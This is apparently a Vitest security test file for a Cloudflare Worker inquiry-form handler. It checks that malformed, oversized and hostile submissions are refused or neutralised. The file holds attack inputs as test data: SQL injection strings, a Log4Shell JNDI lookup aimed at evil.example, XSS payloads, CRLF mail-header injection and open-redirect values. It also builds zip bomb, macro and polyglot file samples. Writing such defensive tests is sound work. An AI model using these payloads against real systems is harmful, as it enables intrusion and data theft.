import { env } from "cloudflare:test";
import { beforeEach, describe, expect, it } from "vitest";
import { indexOfBytes, readMultipart } from "../src/inquiry/multipart.ts";
import { bin, concat, samples, zip } from "./file-samples.ts";
import {
  call,
  countInquiries,
  file,
  installFakes,
  postRaw,
  storedRow,
  submit,
  testIp,
  validFields,
  type Fakes,
} from "./helpers.ts";

let fakes: Fakes;
beforeEach(() => {
  fakes = installFakes();
});

async function code(res: Response): Promise<string> {
  return ((await res.json()) as { code: string }).code;
}

/** After each attack, a good inquiry must still be stored. */
async function stillWorks() {
  const res = await submit(validFields());
  expect(res.status).toBe(201);
}

describe("malformed bodies", () => {
  const B = "----x";

  it.each([
    ["multipart without a boundary", "", "multipart/form-data"],
    [
      "an unterminated part",
      `--${B}\r\nContent-Disposition: form-data; name="name"\r\n\r\nAna`,
      `multipart/form-data; boundary=${B}`,
    ],
    [
      "a part without headers",
      `--${B}\r\n\r\nvalue\r\n--${B}--\r\n`,
      `multipart/form-data; boundary=${B}`,
    ],
    ["a boundary that never appears", "just text", `multipart/form-data; boundary=${B}`],
    [
      "invalid UTF-8 in a urlencoded body",
      bin("name=Ana\xff\xfeNovak&email=a@b.si"),
      "application/x-www-form-urlencoded",
    ],
    ["invalid UTF-8 in JSON", bin('{"name":"\xc3\x28"}'), "application/json"],
    ["JSON that is not an object", "[]", "application/json"],
    ["deeply nested JSON", "[".repeat(5000) + "]".repeat(5000), "application/json"],
  ])("%s gets 400 malformed_body", async (_label, body, type) => {
    const res = await postRaw(body as BodyInit, type);
    expect(res.status).toBe(400);
    expect(await code(res)).toBe("malformed_body");
    await stillWorks();
  });

  it("huge part headers are bounded by the part-header limit", async () => {
    const head = (pad: number) =>
      `--${B}\r\nContent-Disposition: form-data; name="name"\r\nX-Pad: ${"a".repeat(pad)}\r\n\r\nAna\r\n--${B}--\r\n`;
    const over = await postRaw(head(11 * 1024 * 1024), `multipart/form-data; boundary=${B}`);
    expect(over.status).toBe(413);
    // Far under the body limit, still far over any browser's part header.
    const within = await postRaw(head(300_000), `multipart/form-data; boundary=${B}`);
    expect(within.status).toBe(413);
    // A header of a couple of KiB is read, and the missing fields are the answer.
    const small = await postRaw(head(2_000), `multipart/form-data; boundary=${B}`);
    expect(small.status).toBe(422);
    await stillWorks();
  });

  it("a percent-encoded invalid byte becomes a field error, not garbage in the database", async () => {
    const fields = new URLSearchParams(validFields())
      .toString()
      .replace(/name=[^&]*/, "name=Ana%FFNovak");
    const res = await postRaw(fields, "application/x-www-form-urlencoded");
    expect(res.status).toBe(422);
    expect(((await res.json()) as { errors: { field: string; code: string }[] }).errors).toEqual([
      { field: "name", code: "invalid_characters", message: expect.any(String) },
    ]);
  });

  it("thousands of fields get 413", async () => {
    const form = new FormData();
    for (const [k, v] of Object.entries(validFields())) form.append(k, v);
    for (let i = 0; i < 5000; i++) form.append(`f${i}`, "x");
    const res = await call(
      new Request("https://forms.example.com/inquiry", {
        method: "POST",
        body: form,
        headers: { accept: "application/json", "cf-connecting-ip": testIp() },
      }),
    );
    expect(res.status).toBe(413);
    await stillWorks();
  });

  it("a very long value gets 413 even inside a multipart body", async () => {
    const res = await submit({ ...validFields(), company: "x".repeat(1_000_000) });
    expect(res.status).toBe(413);
    const json = await submit(
      { ...validFields(), message: "y".repeat(1_000_000) },
      { encoding: "json" },
    );
    expect(json.status).toBe(413);
    await stillWorks();
  });

  it("a declared 100 MiB body is answered 413 without reading it (1 byte sent, never ended)", async () => {
    let pulls = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        // One byte, then the stream stays open like a client that stalls.
        if (pulls++ === 0) controller.enqueue(new Uint8Array([0x2d]));
        return new Promise(() => {});
      },
    });
    const res = await postRaw(body, "multipart/form-data; boundary=b", {
      "content-length": String(100 * 1024 * 1024),
    });
    expect(res.status).toBe(413);
    expect(await code(res)).toBe("payload_too_large");
    expect(pulls).toBeLessThanOrEqual(1);
  });

  it("a 200 MB chunked body is cut off early with 413, not read to the end", async () => {
    const CHUNK = new Uint8Array(64 * 1024).fill(0x41);
    let pulled = 0;
    const total = (200 * 1024 * 1024) / CHUNK.length;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (pulled === 0)
          controller.enqueue(
            new TextEncoder().encode(
              `--b\r\nContent-Disposition: form-data; name="attachment"; filename="big.txt"\r\n\r\n`,
            ),
          );
        if (++pulled >= total) controller.close();
        else controller.enqueue(CHUNK);
      },
    });
    const res = await postRaw(body, "multipart/form-data; boundary=b");
    expect(res.status).toBe(413);
    expect(await code(res)).toBe("payload_too_large");
    // The limit is 10 MiB + 128 KiB: the reader stopped near it, far short of 200 MB.
    expect(pulled * CHUNK.length).toBeLessThan(20 * 1024 * 1024);
    await stillWorks();
  });
});

describe("part headers as RFC 7578 §4.2 allows them", () => {
  const B = "----x";
  const TYPE = `multipart/form-data; boundary=${B}`;
  /** A whole valid inquiry as multipart, with `head` as the name part's header block. */
  function body(head: string): string {
    const { name: _name, ...rest } = validFields();
    let out = `--${B}\r\n${head}\r\n\r\nAna Novak\r\n`;
    for (const [k, v] of Object.entries(rest)) {
      out += `--${B}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
    }
    return `${out}--${B}--\r\n`;
  }

  it.each([
    ['Content-Disposition: form-data; name="name"\r\nContent-Disposition: form-data; name="email"'],
    ["Content-Disposition: form-data; name=name\r\nContent-Disposition: form-data; name=email"],
    ['Content-Disposition: form-data; name="name"\r\ncontent-disposition: form-data'],
  ])("a part with two Content-Disposition headers gets 400 malformed_body: %j", async (head) => {
    const before = await countInquiries();
    const res = await postRaw(body(head), TYPE);
    expect(res.status).toBe(400);
    expect(await code(res)).toBe("malformed_body");
    expect(await countInquiries()).toBe(before);
    expect(fakes.resend.requests).toHaveLength(0);
  });

  it("one Content-Disposition with a comma in a quoted value is still one", async () => {
    const res = await postRaw(
      body('Content-Disposition: form-data; name="name"; x-note="a, form-data; b"'),
      TYPE,
    );
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    expect(await storedRow(id)).toMatchObject({ name: "Ana Novak" });
  });

  it("LF-only line endings are refused with 400 malformed_body (RFC 2046 §5.1.1)", async () => {
    const res = await postRaw(
      `--${B}\nContent-Disposition: form-data; name=name\n\nAna\n--${B}--\n`,
      TYPE,
    );
    expect(res.status).toBe(400);
    expect(await code(res)).toBe("malformed_body");
  });
});

describe("many parts are refused while the body streams in", () => {
  it("10 MiB of 200,000 empty parts gets 413 after reading only its start", async () => {
    const part = new TextEncoder().encode(
      '--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n\r\n',
    );
    const perChunk = Math.floor((64 * 1024) / part.length);
    const chunk = new Uint8Array(perChunk * part.length);
    for (let i = 0; i < perChunk; i++) chunk.set(part, i * part.length);
    const total = 200_000;
    let sent = 0;
    let pulledBytes = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= total) {
          controller.enqueue(new TextEncoder().encode("--b--\r\n"));
          controller.close();
          return;
        }
        sent += perChunk;
        pulledBytes += chunk.length;
        controller.enqueue(chunk);
      },
    });
    const res = await postRaw(body, "multipart/form-data; boundary=b");
    expect(res.status).toBe(413);
    expect(await code(res)).toBe("payload_too_large");
    // The whole body is about 10 MiB; the answer came after a few chunks of it.
    expect(total * part.length).toBeGreaterThan(9 * 1024 * 1024);
    expect(pulledBytes).toBeLessThan(512 * 1024);
    await stillWorks();
  });
});

describe("a boundary chosen to slow the parser down", () => {
  it("the part search agrees with a plain search, for any needle and data", () => {
    const alphabet = "\r\n-ab";
    const pick = (n: number) =>
      Array.from({ length: n }, () => alphabet[Math.floor(Math.random() * 5)]).join("");
    const enc = new TextEncoder();
    for (let t = 0; t < 5000; t++) {
      const needle = enc.encode(
        t % 2 ? `\r\n--${pick(1 + (t % 6)).replaceAll("\r", "a")}` : pick(1 + (t % 5)),
      );
      const hay = enc.encode(pick(t % 61));
      const start = t % 4;
      let plain = -1;
      for (let i = start; plain < 0 && i + needle.length <= hay.length; i++) {
        if (needle.every((b, j) => hay[i + j] === b)) plain = i;
      }
      expect(indexOfBytes(hay, needle, start)).toBe(plain);
    }
  });

  it("70 × 'a' as the boundary and 10 MiB of 'a' cost no more than ordinary data", async () => {
    const MiB = 1024 * 1024;
    async function readMs(boundary: string, fill: number) {
      const body = concat(
        `--${boundary}\r\nContent-Disposition: form-data; name="attachment"; filename="a.txt"\r\n\r\n`,
        new Uint8Array(10 * MiB).fill(fill),
        `\r\n--${boundary}--\r\n`,
      );
      const chunks = async function* () {
        for (let i = 0; i < body.length; i += 64 * 1024) yield body.subarray(i, i + 64 * 1024);
      };
      const started = Date.now();
      let size = 0;
      for await (const [, value] of readMultipart(
        chunks(),
        `multipart/form-data; boundary=${boundary}`,
        {
          maxParts: 50,
          maxBytes: 11 * MiB,
        },
      )) {
        size += value instanceof File ? value.size : 0;
      }
      expect(size).toBe(10 * MiB);
      return Date.now() - started;
    }
    // A worker without nodejs_compat has no Node Buffer; the test runner has
    // one, and the library would use it. Read as such a worker would.
    const g = globalThis as { Buffer?: unknown };
    const buffer = g.Buffer;
    delete g.Buffer;
    try {
      // The library's own search (Boyer-Moore-Horspool in JavaScript) compares
      // up to 74 bytes per body byte here: seconds of CPU. Ours stays linear.
      const hostile = await readMs("a".repeat(70), 0x61);
      const ordinary = await readMs("----WebKitFormBoundary7MA4YWxkTrZu0gW", 0x61);
      expect(hostile).toBeLessThan(Math.max(1000, ordinary * 10));
    } finally {
      g.Buffer = buffer;
    }
  });
});

describe("encoded-words in header values (RFC 2047)", () => {
  it("a name written as an encoded-word reaches the subject as text, not decoded", async () => {
    const name = "=?UTF-8?B?UmXFoWV0bw==?= =?utf-8?q?Admin?=";
    const res = await submit(validFields({ name, company: "=?UTF-8?Q?Evil?= d.o.o." }));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    expect(await storedRow(id)).toMatchObject({ name, company: "=?UTF-8?Q?Evil?= d.o.o." });
    const mail = fakes.resend.emails.find((e) => e.idempotencyKey === `inquiry-${id}`)!;
    expect(mail.body.subject).not.toContain("=?");
    // Still readable for the staff, each "=?" broken by a space.
    expect(mail.body.subject).toContain("= ?UTF-8?B?UmXFoWV0bw");
    expect(mail.body.subject).toContain("= ?utf-8?q?Admin?");
    expect(mail.body.subject).not.toMatch(/[\r\n]/);
    // The body is not a header: there the visitor's text stays as written.
    expect(mail.body.text).toContain(name);
  });
});

describe("NUL and CR/LF in every field", () => {
  const expected: Record<string, [nul: string, crlf: string | null]> = {
    name: ["invalid_characters", "invalid_characters"],
    email: ["invalid_email", "invalid_email"],
    phone: ["invalid_phone", "invalid_phone"],
    company: ["invalid_characters", "invalid_characters"],
    service: ["invalid_choice", "invalid_choice"],
    message: ["invalid_characters", null], // line breaks are the message's own
  };
  for (const [field, [nul, crlf]] of Object.entries(expected)) {
    it(`${field}`, async () => {
      const good = validFields();
      for (const [bad, want] of [
        [`${good[field]!.slice(0, 4)}\u0000x`, nul],
        [`${good[field]!.slice(0, 4)}\r\nBcc: x@evil.example`, crlf],
      ] as const) {
        const res = await submit({ ...good, [field]: bad });
        if (want === null) {
          expect(res.status).toBe(201);
          continue;
        }
        expect(res.status).toBe(422);
        const errors = ((await res.json()) as { errors: { field: string; code: string }[] }).errors;
        expect(errors).toEqual([{ field, code: want, message: expect.any(String) }]);
      }
    });
  }
});

describe("lying and dangerous files", () => {
  // Each refusal names its reason (file_hidden_content, file_has_macros, …) where the kind
  // would otherwise be accepted, so the visitor knows what to change.
  const refused = async (bytes: Uint8Array, name: string, code = "file_type_not_allowed") => {
    const before = await countInquiries();
    const res = await submit({
      ...validFields(),
      attachment: file(bytes, name, "application/pdf"),
    });
    expect(res.status).toBe(422);
    expect(((await res.json()) as { errors: { code: string }[] }).errors[0]?.code).toBe(code);
    expect(await countInquiries()).toBe(before);
  };

  it("a PDF+ZIP polyglot", async () => {
    const polyglot = concat(samples.pdf(), zip([{ name: "payload.txt", data: "hidden" }]));
    await refused(polyglot, "offer.pdf", "file_hidden_content");
  });

  it("a zip bomb (one entry claiming 1 GiB from a few bytes)", async () => {
    await refused(
      zip([{ name: "bomb.bin", data: new Uint8Array(1000), declaredSize: 1024 * 1024 * 1024 }]),
      "parts.zip",
      "file_archive_unreadable",
    );
  });

  it("an archive with a program inside", async () => {
    await refused(
      zip([
        { name: "readme.txt", data: "hi" },
        { name: "setup.exe", data: "MZ" },
      ]),
      "drawings.zip",
      "file_archive_program",
    );
  });

  it("an Office file with VBA macros", async () => {
    await refused(
      zip([
        { name: "[Content_Types].xml", data: "<Types/>" },
        { name: "word/document.xml", data: "<w:document/>" },
        { name: "word/vbaProject.bin", data: "macro" },
      ]),
      "offer.docx",
      "file_has_macros",
    );
  });

  it("an HTML page and an SVG are only ever text, never served as markup", async () => {
    const res = await submit(
      {
        ...validFields(),
        attachment: file('<svg onload="alert(1)"/>', "logo.svg", "image/svg+xml"),
      },
      {},
      { RESEND_API_KEY: "" },
    );
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    expect(await storedRow(id)).toMatchObject({
      attachment_type: "text/plain",
      attachment_name: "logo.txt",
    });
  });
});

describe("naughty strings are stored verbatim and harm nothing", () => {
  const naughty = [
    "'; DROP TABLE inquiries; --",
    "Robert'); DELETE FROM tech_log WHERE ('1'='1",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳",
    "مرحبا بالعالم שלום 👩🏽‍🔬🇸🇮",
    "\u00A0\u2002\u3000 spaces",
    "0xFFFFFFFF -1 NaN Infinity null undefined",
  ];
  it.each(naughty)("%s", async (value) => {
    const fields = validFields({ company: value.slice(0, 160), message: value });
    // The default SPAM_FILTER (quarantine) scores each string, and every one is
    // mailed: no script and no markup-free text is evidence of spam.
    const res = await submit(fields, { accept: "text/html" });
    expect(res.status).toBe(303);
    const json = await submit(fields, {});
    const { id } = (await json.json()) as { id: string };
    expect(await storedRow(id)).toMatchObject({ message: value.trim() });
    for (const [db, table] of [
      [env.DB, "inquiries"],
      [env.LOG_DB, "tech_log"],
    ] as const) {
      const found = await db
        .prepare("SELECT count(*) AS n FROM sqlite_master WHERE name = ?")
        .bind(table)
        .first<{ n: number }>();
      expect(found?.n).toBe(1);
    }
    // The mail's HTML part escapes it.
    const mail = fakes.resend.emails.find((e) => e.idempotencyKey === `inquiry-${id}`)!;
    expect(mail.body.html).not.toContain("<img src=x");
  });
});

describe("no open redirect", () => {
  it("ignores any redirect a visitor sends", async () => {
    const res = await submit(
      {
        ...validFields(),
        _redirect: "https://evil.example",
        _next: "https://evil.example",
        redirect: "https://evil.example",
      },
      { accept: "text/html" },
    );
    expect(res.status).toBe(303);
    expect(res.headers.get("location")).toMatch(/^\/thanks/);
  });
});
